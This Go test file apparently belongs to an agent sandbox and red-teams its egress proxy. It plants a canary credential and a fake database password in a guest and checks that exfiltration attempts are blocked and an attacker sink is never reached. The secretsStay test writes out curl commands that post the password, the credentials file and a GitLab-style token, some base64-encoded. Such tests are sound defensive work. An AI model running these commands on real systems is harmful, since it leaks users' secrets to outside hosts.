package provisiontest

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/bottle-mcp/bottle-mcp/backend"
	"github.com/bottle-mcp/bottle-mcp/backend/linux"
	"github.com/bottle-mcp/bottle-mcp/evals/applecontainer/world"
	"github.com/bottle-mcp/bottle-mcp/provision"
	"github.com/bottle-mcp/bottle-mcp/provision/state"
	"github.com/bottle-mcp/bottle-mcp/sidecars"
	"github.com/bottle-mcp/bottle-mcp/sidecars/ca"
	"github.com/bottle-mcp/bottle-mcp/sidecars/egress/egresstest"
)

// front is a battle's bottle and what is around it.
type front struct {
	*bottle
	*egresstest.Field

	// named says that names lead to the field's servers. An ordinary user cannot
	// arrange that: what is allowed ends in a name that is not resolved.
	named bool
	probe []string // the program in the guest
	// controlled says that the same attacks have succeeded elsewhere.
	controlled bool
}

// TestRedTeamLinux runs the red team in a bottle of the linux backend.
func TestRedTeamLinux(t *testing.T) {
	if os.Getuid() == 0 && os.Getenv(innerEnv) == "" {
		again(t, unix.CLONE_NEWNS|unix.CLONE_NEWNET)
		return
	}
	store, err := state.Open(filepath.Join(t.TempDir(), "state"))
	if err != nil {
		t.Fatal(err)
	}
	bed := Bed{Backend: linux.New(linux.Config{BottlesDir: store.BottlesDir(), Owner: store.Owner()}), Store: store, Account: backend.DefaultAccount()}
	minter, roots := fieldAuthority(t)
	originIP, sinkIP, named := "127.0.0.1", "127.0.0.2", os.Getuid() == 0
	if named {
		originIP, sinkIP = originAddr, "10.213.0.2"
		serveNothing(t, originIP, sinkIP, roots)
	}
	f := newFront(t, bed, minter, originIP, sinkIP)
	f.named, f.probe = named, []string{backend.GuestBinary, redTeamVerb}
	f.battle(t)
}

// TestRedTeamStandIn is the same on the stand-in of Apple's container.
func TestRedTeamStandIn(t *testing.T) {
	w := world.New(t)
	w.Images(t)
	minter, roots := fieldAuthority(t)
	const sinkIP = "198.51.100.3"
	if out, err := exec.CommandContext(t.Context(), "ip", "addr", "add", sinkIP+"/32", "dev", "lo").CombinedOutput(); err != nil {
		t.Fatalf("ip: %v: %s", err, out)
	}
	for _, host := range egresstest.Origins() {
		w.SetName(t, host, netip.MustParseAddr(world.HostAddress))
	}
	for _, host := range egresstest.Sinks() {
		w.SetName(t, host, netip.MustParseAddr(sinkIP))
	}
	trusted := filepath.Join(t.TempDir(), "roots.pem")
	put(t, trusted, roots, 0o644)
	for _, topology := range []string{"two-network", "socket"} {
		t.Run(topology, func(t *testing.T) {
			store, err := state.Open(filepath.Join(t.TempDir(), "state"))
			if err != nil {
				t.Fatal(err)
			}
			outside := *w
			outside.OriginCA = trusted
			bed := Bed{Backend: mac(t, &outside, store, topology), Store: store, Canary: world.CanaryAddresses()[0].String(), Image: world.ToolsImage, Account: backend.DefaultAccount()}
			f := newFront(t, bed, minter, world.HostAddress, sinkIP)
			f.named, f.probe, f.controlled = true, []string{f.bring(t)}, topology == "socket"
			f.battle(t)
		})
	}
}

func fieldAuthority(t *testing.T) (*ca.Minter, string) {
	t.Helper()
	cert, key, err := ca.NewAuthority("origins", time.Now().Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	minter, err := ca.NewMinter(cert, key)
	if err != nil {
		t.Fatal(err)
	}
	return minter, string(cert)
}

// serveNothing gives addresses, names and roots to the namespaces of the test.
func serveNothing(t *testing.T, originIP, sinkIP, roots string) {
	t.Helper()
	for _, args := range [][]string{{"link", "set", "lo", "up"}, {"addr", "add", originIP + "/32", "dev", "lo"}, {"addr", "add", sinkIP + "/32", "dev", "lo"}} {
		if out, err := exec.CommandContext(t.Context(), "ip", args...).CombinedOutput(); err != nil {
			t.Fatalf("ip %v: %v: %s", args, err, out)
		}
	}
	quiet(t)
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		t.Fatal(err)
	}
	over(t, "/etc/hosts", "127.0.0.1 localhost\n"+originIP+" "+strings.Join(egresstest.Origins(), " ")+"\n"+sinkIP+" "+strings.Join(egresstest.Sinks(), " ")+"\n")
	trustOnly(t, roots)
}

// newFront launches the bottle and the servers that it may and may not reach.
func newFront(t *testing.T, bed Bed, minter *ca.Minter, originIP, sinkIP string) *front {
	t.Helper()
	scene := egresstest.Scene{EvilIP: netip.MustParseAddr(sinkIP), Token: OriginToken, Known: knownSecret}
	field, err := egresstest.NewField(t.Context(), minter, scene, originIP)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(field.Close)
	s := newSuite(t, bed)
	put(t, filepath.Join(s.home, ".bot-bottle/bottles/besieged.md"), "---\n"+besieged(t, field.Scene.Routes(originIP), bed.Image)+"\n---\n", 0o600)
	f := &front{bottle: s.launch(t, provision.LaunchRequest{Bottles: []string{"besieged"}, ID: "besieged"}), Field: field}
	_, canary, ok := strings.Cut(f.sh(t, "cat ~/.config/credentials"), "= ")
	if f.Scene.Canary = strings.TrimSpace(canary); !ok || len(f.Scene.Canary) < 20 {
		t.Fatalf("the canary is %q", canary)
	}
	return f
}

// besieged is the front matter of the bottle: JSON is YAML.
func besieged(t *testing.T, routes []sidecars.Route, image string) string {
	t.Helper()
	type object = map[string]any
	var list []object
	for _, r := range routes {
		one := object{"host": r.Host, "ports": r.Ports}
		if r.Private != nil {
			one["private"] = r.Private
		}
		if r.Auth != nil {
			one["auth"] = object{"scheme": r.Auth.Scheme, "token_ref": "ORIGIN_TOKEN"}
		}
		if r.Matches != nil {
			one["matches"] = r.Matches
		}
		if r.GitFetch {
			one["git"] = object{"fetch": true}
		}
		if r.Budget != nil {
			one["budget"] = object{"per_minute": r.Budget.PerMinute}
		}
		if r.DLP != nil {
			one["dlp"] = object{"outbound_detectors": false}
		}
		list = append(list, one)
	}
	front := object{"env": object{"DB_PASSWORD": "${DB_PASSWORD}"}, "egress": object{"routes": list}}
	if image != "" {
		front["image"] = image
	}
	text, err := json.Marshal(front)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// bring copies the probe into a guest that runs the product.
func (f *front) bring(t *testing.T) string {
	t.Helper()
	path := filepath.Join(f.suite.workspace, "probe")
	cmd := exec.CommandContext(t.Context(), "go", "build", "-o", path, "github.com/bottle-mcp/bottle-mcp/sidecars/egress/egresstest/probe")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build the probe: %v: %s", err, out)
	}
	const there = "/tmp/probe"
	if _, err := f.manager.CopyIn(t.Context(), operator(), f.live.ID, path, there, provision.CopyOptions{}); err != nil {
		t.Fatal(err)
	}
	return there
}

// battle is everything, as agent and as root where the guest has one.
func (f *front) battle(t *testing.T) {
	caps, err := f.Backend.Check(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if !f.controlled {
		t.Run("control", f.control)
	}
	f.Origin.Forget()
	f.Sink.Forget()
	t.Run("agent", func(t *testing.T) { f.assault(t, "") })
	if caps.MultiUser {
		t.Run("root", func(t *testing.T) {
			if id, code := f.run(t, backend.Command{Argv: []string{"id", "-u"}, User: "root"}, ""); code != 0 || strings.TrimSpace(id) != "0" {
				t.Errorf("root is user %s", id)
			}
			f.assault(t, "root")
		})
	}
	t.Run("secrets", f.secretsStay)
	if got := f.Sink.Got(); got.Connections > 0 {
		t.Errorf("the attacker's server was reached %d times: %.200q", got.Connections, got.Bytes)
	}
	nowhere(t, filepath.Join(f.Store.BottlesDir(), string(f.live.ID)), OriginToken, knownSecret, f.Scene.Canary)
}

// attacks are those that can be told from here; with -short one of each row.
func (f *front) attacks() []egresstest.Attack {
	all := f.Scene.Attacks()
	if testing.Short() {
		all = egresstest.Sample(all)
	}
	return slices.DeleteFunc(all, func(a egresstest.Attack) bool { return a.NeedsOrigin && !f.named })
}

// control carries the same attacks out against a proxy that is naive.
func (f *front) control(t *testing.T) {
	for _, a := range f.attacks() {
		if leak, seen := f.Control(t.Context(), a); leak == "" {
			t.Errorf("%s: a naive proxy lets nothing through: %v %s", a.Title(), seen.Answer.Statuses, seen.Answer.Fault)
		}
	}
}

// assault has the probe carry out all attacks inside.
func (f *front) assault(t *testing.T, user string) {
	attacks := f.attacks()
	proxy, err := url.Parse(strings.TrimSpace(f.sh(t, "echo $HTTPS_PROXY")))
	if err != nil || proxy.Host == "" {
		t.Fatalf("the guest's proxy is %v: %v", proxy, err)
	}
	order, err := json.Marshal(egresstest.Order{Proxy: proxy.Host, Attacks: attacks})
	if err != nil {
		t.Fatal(err)
	}
	out, code := f.run(t, backend.Command{Argv: f.probe, User: user}, string(order))
	if code != 0 {
		t.Fatalf("the probe ended with %d: %.2000s", code, out)
	}
	logged := f.reasons(t)
	in, origin := json.NewDecoder(strings.NewReader(out)), f.Origin.Got()
	for _, a := range attacks {
		var answer egresstest.Answer
		if err := in.Decode(&answer); err != nil {
			t.Fatalf("%s: no answer: %v", a.Title(), err)
		}
		if leak := a.Leak(f.Scene, egresstest.Evidence{Origin: origin, Answer: answer}); leak != "" {
			t.Errorf("%s: %s", a.Title(), leak)
		}
		if !a.Expected(answer.Reasons) && !a.Expected(logged) && (f.named || !slices.Contains(answer.Reasons, "name_not_resolved")) {
			t.Errorf("%s: answered %v %q %s, want one of %q", a.Title(), answer.Statuses, answer.Reasons, answer.Fault, a.Reasons)
		}
		for _, r := range answer.Reasons {
			if r != "" && !slices.Contains(logged, r) {
				t.Errorf("%s: answered %s, which is not in the log", a.Title(), r)
			}
		}
	}
	t.Logf("%d attacks", len(attacks))
}

func (f *front) reasons(t *testing.T) []string {
	t.Helper()
	list, err := f.manager.EgressLog(t.Context(), operator(), f.live.ID, 1000)
	if err != nil || len(list) < 20 {
		t.Fatalf("%d decisions are on record: %v", len(list), err)
	}
	var all []string
	for _, d := range list {
		all = append(all, d.Reason)
	}
	return all
}

// secretsStay posts what lies in the guest, as a person would, and has it
// refused; where nobody looks, the same arrives.
func (f *front) secretsStay(t *testing.T) {
	for _, tt := range []struct{ name, value, reason string }{
		{"a variable", `$(printf %s "$DB_PASSWORD")`, "secret_in_body"},
		{"a variable in base64", `$(printf %s "$DB_PASSWORD" | base64)`, "secret_in_body"},
		{"the canary", `$(cat ~/.config/credentials)`, "canary"},
		{"the canary in base64", `$(cat ~/.config/credentials | base64 | tr -d '\n')`, "canary"},
		{"a token of a known format", `glpat` + `-Zk3vR8sQ1mX7tB5wN2yL`, "secret_in_body"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			post := func(host string) (string, []sidecars.Decision) {
				script := fmt.Sprintf(`curl -sS -o /dev/null -w '%%{http_code}' --data-binary "x=%s" https://%s:%d/ok/in`, tt.value, host, f.Scene.Port)
				var out joined
				res, err := f.manager.Exec(t.Context(), operator(), f.live.ID, backend.Command{Argv: []string{"sh", "-c", script}}, backend.Streams{Stdout: &out, Stderr: &out})
				if err != nil || res.Status.Code != 0 {
					t.Fatalf("%s: %v, %d: %s", host, err, res.Status.Code, out.String())
				}
				return out.String(), res.Refusals
			}
			f.Origin.Forget()
			status, refusals := post(egresstest.Open)
			if status != "403" || len(refusals) != 1 || refusals[0].Reason != tt.reason || refusals[0].Host != egresstest.Open {
				t.Errorf("answered %s, and the command lists %+v", status, refusals)
			}
			if got := f.Origin.Got(); got.Connections > 0 {
				t.Errorf("the origin was reached: %.300q", got.Bytes)
			}
			want := "200"
			if !f.named {
				want = "502" // the scan lets it pass, and there is nobody of that name
			}
			status, refusals = post(egresstest.Unscanned)
			if arrived := bytes.Contains(f.Origin.Got().Bytes, []byte("x=")); status != want || len(refusals) > 0 || arrived != f.named {
				t.Errorf("control: answered %s, arrived: %v, refusals %+v", status, arrived, refusals)
			}
		})
	}
}
